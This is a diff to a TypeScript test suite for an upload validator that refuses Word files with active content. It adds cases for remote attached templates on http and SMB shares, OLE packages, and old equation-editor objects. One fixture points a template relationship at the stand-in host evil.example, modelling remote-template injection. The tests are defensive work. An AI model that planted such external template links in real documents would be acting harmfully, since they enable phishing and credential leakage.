@@ -45,6 +45,11 @@ const packedInPdf = (objects: string): Buffer =>
 const png = bytesOf('\x89PNG\r\n\x1a\n----IEND\xaeB`\x82');
 const compound = (stream: string): Buffer =>
   Buffer.concat([bytesOf('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'), bytesOf([...stream].join('\0'))]);
+const formula = (more = ''): Buffer =>
+  Buffer.concat([compound(`Equation Native ${more}`), bytesOf('\0Equation.DSMT4\0')]);
+const external = (type: string, target = 'http://evil.example/t.dotm'): Parts => ({
+  'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="r" Type="http://x/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
+});
 const sts = (head = '', content = '<front/><body><sec id="s1"><title>范围</title></sec></body>'): Buffer =>
   utf8(`<?xml version="1.0" encoding="UTF-8"?>\n${head}<standard xmlns:xlink="x">${content}</standard>`);
 
@@ -87,6 +92,22 @@ describe('what a file is, says its content', () => {
     expect(fileNameFor(name, found.ending)).toBe(kept);
   });
 
+  test.each([
+    ['formulas of MathType', { 'word/embeddings/oleObject1.bin': formula() }],
+    ["the template on its writer's own disk", external('attachedTemplate', 'file:///C:\\Users\\x\\TCS.dotx')],
+    ['a link to follow by hand', external('hyperlink', 'https://example.org')],
+    [
+      'a drawing',
+      {
+        'word/embeddings/d.vsdx': zip({
+          '[Content_Types].xml': '<Types ContentType="application/vnd.ms-visio.drawing.main+xml"/>',
+        }),
+      },
+    ],
+  ])('a document with %s is taken', (_, parts) => {
+    expect(examine({ name: 'a.docx', bytes: word(parts) }, settings).ending).toBe('docx');
+  });
+
   test('a ZIP is taken only where a set of papers is asked for', () => {
     const set = zip({ '报批稿.docx': word(), '说明.txt': 'x', 'photos/': '' });
     expect(examine({ name: 'set.zip', bytes: set }, settings, { takesZip: true }).mediaType).toBe('application/zip');
@@ -96,10 +117,6 @@ describe('what a file is, says its content', () => {
 
 const bomb = zip({ '[Content_Types].xml': wordTypes, 'word/document.xml': ' '.repeat(20_000_000) });
 const zipOf = (depth: number): Buffer => (depth === 0 ? zip({ a: 'x' }) : zip({ 'inner.zip': zipOf(depth - 1) }));
-const external = (type: string): Parts => ({
-  'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="r" Type="http://x/${type}" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
-});
-
 describe('a file is refused in words, with its name and the place, and nothing of it is kept', () => {
   test.each<readonly [string, Buffer, string, Taking | undefined]>(
     rowsOf([
@@ -146,6 +163,26 @@ describe('a file is refused in words, with its name and the place, and nothing o
       ['ActiveX', word({ 'word/activeX/activeX1.xml': '<x/>' }), 'documents.file-macros'],
       ['an OLE object', word({ 'word/embeddings/oleObject1.bin': compound('Package') }), 'documents.file-active'],
       ['a template from elsewhere', word(external('attachedTemplate')), 'documents.file-active'],
+      [
+        'a template on a share',
+        word(external('attachedTemplate', 'file://server/share/t.dotm')),
+        'documents.file-active',
+      ],
+      [
+        'a template on a share by its old name',
+        word(external('attachedTemplate', '\\\\server\\share\\t.dotm')),
+        'documents.file-active',
+      ],
+      [
+        'a formula that brings a program',
+        word({ 'word/embeddings/o.bin': formula('Ole10Native') }),
+        'documents.file-active',
+      ],
+      [
+        'the old equation editor',
+        word({ 'word/embeddings/o.bin': Buffer.concat([compound('Equation Native'), bytesOf('Equation.3')]) }),
+        'documents.file-active',
+      ],
       ['a picture from elsewhere', word(external('image')), 'documents.file-active'],
       [
         'a page of the web as a part of the text',
